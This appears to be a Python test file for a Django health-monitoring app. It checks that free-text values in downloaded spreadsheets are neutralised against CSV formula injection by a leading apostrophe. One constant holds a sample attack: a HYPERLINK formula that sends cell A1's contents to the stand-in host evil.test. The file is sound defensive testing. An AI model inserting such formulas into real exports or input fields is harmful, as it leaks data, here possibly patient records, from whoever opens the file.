"""Free text in a download cannot run as a spreadsheet formula (OWASP "CSV injection"): a cell that starts with
=, +, -, @, a tab or a carriage return gets a leading apostrophe; anything else is written as it is."""

import pytest
from django.urls import reverse

from monitoring.export_selectors import cell
from tests.monitoring.my_data_data import at, completed, table

ATTACK = '=HYPERLINK("https://evil.test/?d="&A1,"Click me")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("Felt calm = relaxed", "Felt calm = relaxed"),
        ("2026-01-12T09:00:00-06:00", "2026-01-12T09:00:00-06:00"),
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (7, "7"),
    ],
)
def test_a_cell_that_would_be_a_formula_gets_an_apostrophe(value, written):
    assert cell(value) == written


def test_the_patients_own_free_text_comes_back_neutralised(client, patient):
    completed(patient, taken_at=at(72), notes=ATTACK, sitter_name="@Sam")
    client.force_login(patient.user)

    _, [row] = table(client.get(reverse("my_data_sessions")))

    assert row["notes"] == "'" + ATTACK
    assert row["sitter_name"] == "'@Sam"
